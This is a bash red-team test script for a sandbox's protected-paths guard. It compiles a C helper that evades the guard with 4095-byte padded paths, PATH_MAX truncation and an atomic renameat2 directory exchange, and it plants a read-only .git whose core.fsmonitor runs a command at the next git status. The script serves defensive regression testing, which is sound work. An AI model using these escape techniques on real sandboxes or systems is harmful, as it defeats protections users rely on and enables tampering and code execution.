#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# Red-team findings against guarantee 2 (protected paths) that the other escape scripts do not
# try: path strings the protected-names broker cannot read or rebuild whole (exactly 4095 bytes,
# the kernel's maximum; or a relative path whose cwd-joined form is longer than PATH_MAX), the
# inotify/recheck backstop that only compares the presence of a guarded name (so an ancestor
# directory swapped atomically goes unnoticed), and the repair that cannot move or remove a
# read-only directory planted under a guarded name. Each hole test fails while the hole is open;
# the others check attacks that are refused today, from outside, and can fail too.
#
# The attacks need a helper the probe lacks (`lp`, compiled here with cc): without a compiler
# they are skipped.
# shellcheck source=../lib.sh
. "$(dirname "$0")/../lib.sh"

# mk_scratch changes directory: relative CORDON and PROBE must keep working.
CORDON=$(realpath "$CORDON") PROBE=$(realpath "$PROBE")
mk_scratch

LP=$T/bin/lp
if ! command -v cc >/dev/null; then
	echo "1..0 # SKIP no C compiler for the helper"
	exit 0
fi
cat >"$T/bin/lp.c" <<'EOF'
/* lp: path tricks against cordon's protected-names broker. Prints `ok` (exit 0) or
 * `fail ERRNO: text` (exit 1), like the probe.
 *   lp pad N mkdir PATH          PATH (absolute) padded with extra '/' to exactly N bytes
 *   lp pad N rename A B          both padded
 *   lp pad N exchange A B        renameat2(RENAME_EXCHANGE), both padded
 *   lp trunc SUB NAME            mkdir("SUB/////.../../NAME") relative to the cwd, padded so that
 *                                cwd "/" path is longer than PATH_MAX while the path itself is not
 *   lp nodump OP...              prctl(PR_SET_DUMPABLE, 0), then OP */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

static char *pad(const char *p, size_t want)
{
	size_t n = strlen(p);
	if (p[0] != '/' || n > want) {
		fprintf(stderr, "pad: need an absolute path of at most %zu bytes\n", want);
		exit(2);
	}
	char *o = malloc(want + 1);
	memset(o, '/', want - n);
	memcpy(o + (want - n), p, n + 1);
	return o;
}

static int done(int rc)
{
	if (rc == 0) {
		puts("ok");
		return 0;
	}
	const char *name = strerrorname_np(errno);
	printf("fail %s: %s\n", name ? name : "?", strerror(errno));
	return 1;
}

int main(int argc, char **argv)
{
	if (argc >= 3 && !strcmp(argv[1], "nodump")) {
		if (prctl(PR_SET_DUMPABLE, 0, 0, 0, 0) < 0)
			return done(-1);
		argv++, argc--;
	}
	if (argc >= 5 && !strcmp(argv[1], "pad")) {
		size_t n = strtoul(argv[2], NULL, 10);
		const char *op = argv[3];
		if (!strcmp(op, "mkdir"))
			return done(mkdir(pad(argv[4], n), 0755));
		if (!strcmp(op, "rename") && argc >= 6)
			return done(rename(pad(argv[4], n), pad(argv[5], n)));
		if (!strcmp(op, "exchange") && argc >= 6)
			return done(renameat2(AT_FDCWD, pad(argv[4], n), AT_FDCWD, pad(argv[5], n), RENAME_EXCHANGE));
	}
	if (argc == 4 && !strcmp(argv[1], "trunc")) {
		char cwd[PATH_MAX];
		if (!getcwd(cwd, sizeof(cwd)))
			return done(-1);
		size_t head = strlen(cwd) + 1 + strlen(argv[2]);
		size_t slashes = (PATH_MAX - 1) - head + 1; /* a cut at PATH_MAX-1 falls in the slashes */
		size_t plen = strlen(argv[2]) + slashes + 3 + strlen(argv[3]);
		if (plen >= PATH_MAX - 1) {
			fprintf(stderr, "trunc: the cwd is too short for this trick\n");
			return 2;
		}
		char *p = malloc(plen + 1), *q = p;
		q += sprintf(q, "%s", argv[2]);
		memset(q, '/', slashes);
		q += slashes;
		sprintf(q, "../%s", argv[3]);
		return done(mkdir(p, 0755));
	}
	fprintf(stderr, "usage: see the comment at the top of lp.c\n");
	return 2;
}
EOF
cc -O2 -o "$LP" "$T/bin/lp.c" || bail_out "cannot compile the helper"
chmod 0755 "$LP"

QUAR=$HOMEDIR/.local/state/cordon/quarantine
quarantined() {
	find "$QUAR" -mindepth 1 -maxdepth 1 -name "*-$1" 2>/dev/null | grep -q .
}

before_attack() {
	rm -rf "$WS" "$QUAR" && mkdir -p "$WS/sub" "$WS/conf"
	git init -q "$WS" 2>/dev/null || mkdir -p "$WS/.git/hooks"
	printf 'a: 1\n' >"$WS/conf/app.yml"
	own "$WS"
}
before_attack
A=$WS/.agents
require_visible "$WS/conf/app.yml"

# --- control: the helper's calls are what the broker refuses at an ordinary length -----------
attack "control: mkdir .agents by a 4094-byte path is refused by the broker" "$A" -- \
	-w "$WS" -- "$LP" pad 4094 mkdir "$A"
attack "control: mkdir .agents by a 4094-byte path from a non-dumpable process is refused" "$A" -- \
	-w "$WS" -- "$LP" nodump pad 4094 mkdir "$A"

# --- HOLE 1: a 4095-byte path is never looked at by the broker ---------------------------------
# read_string() reads at most PATH_MAX-1 bytes and treats a string without its NUL in them as
# unreadable ("the kernel refuses it too"), then lets the call go on. The kernel accepts
# PATH_MAX-1 bytes plus the NUL. Only the backstop then sees .agents (exit 125, quarantine).
attack "HOLE: mkdir .agents by a 4095-byte path is refused by the broker, not left to the backstop" "$A" -- \
	-w "$WS" -- "$LP" pad 4095 mkdir "$A"
if ! [[ $OUT =~ ^(ok|fail) ]]; then
	not_ok "the 4095-byte mkdir ran in the sandbox" "$(what_happened)"
elif quarantined .agents; then
	not_ok "HOLE: nothing had to be quarantined after the 4095-byte mkdir" "$(ls -la "$QUAR")"
else
	ok "nothing had to be quarantined after the 4095-byte mkdir"
fi

# --- HOLE 2: the broker rebuilds cwd + "/" + path in a buffer and cuts the parent at PATH_MAX --
# `sub/////...///../.agents`: joined with the cwd and cut at 4095 bytes, the parent loses its
# trailing `/..` and resolves to sub, which guards nothing; the kernel creates WS/.agents.
before_attack
attack_sh "HOLE: mkdir .agents by a relative path whose joined parent is cut at PATH_MAX" "$A" \
	"cd '$WS' && exec '$LP' trunc sub .agents"

# --- HOLE 3: swap the parent of a --protect PATH atomically; nothing notices -----------------
# With the broker blind (hole 1), renameat2(RENAME_EXCHANGE) puts a directory of the command's
# own in place of `conf`. The backstop only asks whether each guarded name is present (it is: a
# different inode) and checks conf/app.yml through an fd of the OLD directory. The run exits 0 and
# the protected file is the attacker's, and writable.
before_attack
before=$(tree_state "$WS/conf")
run sb -w "$WS" --protect "$WS/conf/app.yml" -- /bin/sh -c \
	"cd '$WS' && mkdir newconf && echo pwned-$NONCE >newconf/app.yml && '$LP' pad 4095 exchange '$WS/newconf' '$WS/conf' ; echo more-$NONCE >>conf/app.yml; exit 0"
after=$(tree_state "$WS/conf")
if ! [[ $OUT =~ ^(ok|fail) ]]; then
	not_ok "the exchange ran in the sandbox" "$(what_happened)"
elif [[ $before == "$after" ]] && ! grep -q "$NONCE" "$WS/conf/app.yml"; then
	ok "the parent of a --protect PATH cannot be exchanged by a 4095-byte path (exit $RC)"
else
	not_ok "HOLE: the parent of a --protect PATH cannot be exchanged by a 4095-byte path" \
		"conf/app.yml on the host now: $(cat "$WS/conf/app.yml" 2>&1 | tr '\n' ' ')" "$(what_happened)"
fi
# The same swap with an ordinary path is refused (protected.sh tries it too): the control that
# shows what HOLE 3 gets around.
before_attack
attack "control: exchange the parent of a --protect PATH by a 4094-byte path" "$WS/conf" -- \
	-w "$WS" --protect "$WS/conf/app.yml" -- /bin/sh -c \
	"cd '$WS' && mkdir newconf && echo pwned >newconf/app.yml && exec '$LP' pad 4094 exchange '$WS/newconf' '$WS/conf'"

# --- refused today: the mount layer holds where the broker is blind ---------------------------
before_attack
G=$WS/.git
attack "a 4095-byte rename of an existing .git (a read-only mount point) is refused" "$G" -- \
	-w "$WS" -- "$LP" pad 4095 rename "$G" "$WS/git-moved"
attack "a 4095-byte exchange of an existing .git with a fake one is refused" "$G" -- \
	-w "$WS" -- /bin/sh -c "mkdir -p '$WS/fake/hooks' && exec '$LP' pad 4095 exchange '$WS/fake' '$G'"
attack "a 4095-byte mkdir outside the writable roots is refused" "$OUTD" -- \
	-w "$WS" -- "$LP" pad 4095 mkdir "$OUTD/newdir"

# --- HOLE 4: a read-only directory planted as .git survives the repair (non-root) ------------
# When a guarded name appears anyway (a won race, or hole 1), cordon kills the sandbox and moves
# the entry into its quarantine. Moving a directory to another parent needs write permission on
# the directory itself (its `..` changes), so a 0555 directory cannot be moved by a non-root
# cordon; remove_tree() then cannot empty it either, and the planted .git stays, with a config
# whose core.fsmonitor runs at the user's next `git status`. cordon still says "removed".
#
# 4a: planted through hole 1. 4b: the race is stood in for by a rename on the host at the moment
# the command is ready, so the repair is tested even once the broker is fixed.
WS2=$T/ws2
fresh_ws2() {
	rm -rf "$WS2" "$QUAR" && mkdir -p "$WS2" && own "$WS2"
}
plant_evil="cd '$WS2' && mkdir evil evil/objects evil/refs && printf 'ref: refs/heads/main\n' >evil/HEAD &&
	printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"touch $T/pwned-$NONCE; false\"\n' >evil/config &&
	chmod 0555 evil"
fresh_ws2
run sb -w "$WS2" -- /bin/sh -c "$plant_evil && exec '$LP' pad 4095 rename '$WS2/evil' '$WS2/.git'"
if ! [[ $OUT =~ ^(ok|fail) ]]; then
	not_ok "the 4095-byte rename ran in the sandbox" "$(what_happened)"
elif [[ ! -e $WS2/.git ]]; then
	ok "a read-only .git planted by a 4095-byte rename does not outlive the run (exit $RC)"
else
	not_ok "HOLE: a read-only .git planted by a 4095-byte rename does not outlive the run" \
		"host: $(ls -la "$WS2/.git" 2>&1 | head -3 | tr '\n' ' ')" "$(what_happened)"
fi

fresh_ws2
sb_bg "$LOGS/race.out" -w "$WS2" -- /bin/sh -c \
	"$plant_evil && : >'$WS2/ready' && i=0; while [ \$i -lt 100 ]; do '$P' sleep 50 >/dev/null; i=\$((i+1)); done"
if wait_for 100 test -e "$WS2/ready"; then
	# What a won race leaves: the command's 0555 directory under the guarded name.
	as_user mv "$WS2/evil" "$WS2/.git"
	wait "$SB_PID"
	rc=$?
	if [[ ! -e $WS2/.git ]]; then
		ok "a read-only directory that appears as .git mid-run is moved away or removed (exit $rc)"
	else
		not_ok "HOLE: a read-only directory that appears as .git mid-run is moved away or removed" \
			"host: $(ls -la "$WS2/.git" 2>&1 | head -3 | tr '\n' ' ')" "cordon said: $(cat "$LOGS/race.out")"
	fi
else
	not_ok "the sandbox for the mid-run .git test started" "$(cat "$LOGS/race.out")"
	kill -KILL "$SB_PID" 2>/dev/null
fi
chmod -R u+w "$WS2" 2>/dev/null
[[ ! -e $T/pwned-$NONCE ]] || not_ok "nothing ran the planted fsmonitor" "$T/pwned-$NONCE exists"

done_testing
